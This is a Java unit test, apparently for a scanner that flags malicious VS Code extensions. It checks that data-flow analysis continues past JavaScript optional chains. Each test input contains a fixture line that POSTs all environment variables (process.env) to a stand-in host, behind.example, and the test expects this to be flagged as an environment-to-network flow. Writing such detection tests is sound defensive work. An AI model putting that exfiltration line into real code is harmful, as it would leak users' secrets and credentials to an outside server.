package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Where an optional chain ends, it ends alone: the program goes on behind it. */
class OptionalChainsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "delete nothing?.entry",
                "delete nothing?.[0].entry",
                "delete holder.nothing?.entry.more",
                "nothing?.entry.more()",
                "typeof nothing?.entry.more",
                "for (const each of nothing?.list ?? []) each.run()",
            })
    void theProgramGoesOnBehindIt(String ending) {
        Analysis analysis = Analysis.ofActivate("const nothing = undefined, holder = { nothing: undefined };\n" + ending
                + ";\nfetch('https://behind.example/b', { method: 'POST', body: JSON.stringify(process.env) });");

        assertThat(analysis.flowNames()).containsExactly("environment -> network-send");
        assertThat(analysis.result().gaps()).isEmpty();
    }
}
